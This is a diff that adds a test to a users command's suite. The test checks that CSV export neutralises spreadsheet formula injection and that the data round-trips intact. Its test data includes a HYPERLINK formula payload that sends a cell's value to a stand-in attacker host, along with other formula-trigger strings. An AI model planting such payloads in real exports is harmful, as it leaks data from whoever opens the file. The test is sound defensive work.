@@ -8,6 +8,7 @@ import { join } from 'node:path'
 import { suite, type TestContext, test } from 'node:test'
 
 import { hashSync as bcryptHash } from '@node-rs/bcrypt'
+import { parse } from 'csv-parse/sync'
 
 import { run } from '../../cli/users.ts'
 import { query } from '../db/sql.ts'
@@ -75,6 +76,23 @@ suite('users command', () => {
       assert.deepEqual(await everybody(to.url), await everybody(from.url))
     })
   }
+
+  test('what strangers wrote is no formula in the CSV, and comes back as it was', async (t) => {
+    const [from, to] = [await cloneDatabase(t), await cloneDatabase(t)]
+    const auds = ['=HYPERLINK("https://evil.test/?"&F2)', '@sum', "'=1", '\t=1', "'quoted"]
+    const rows = auds.map((aud, index) => ({ email: `-1+1@x${index}.test`, aud }))
+    await users(from.url, 'import', await fileOf(t, 'people.ndjson', rows))
+    const file = join(await temporaryFolder(t), 'people.csv')
+    await users(from.url, 'export', file)
+
+    const cells: string[][] = parse(await readFile(file))
+    assert.deepEqual(
+      cells.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell)),
+      [],
+    )
+    await users(to.url, 'import', file)
+    assert.deepEqual(await everybody(to.url), await everybody(from.url))
+  })
 
   test('export without a file writes to standard output', async (t) => {
     const { url } = await cloneDatabase(t)
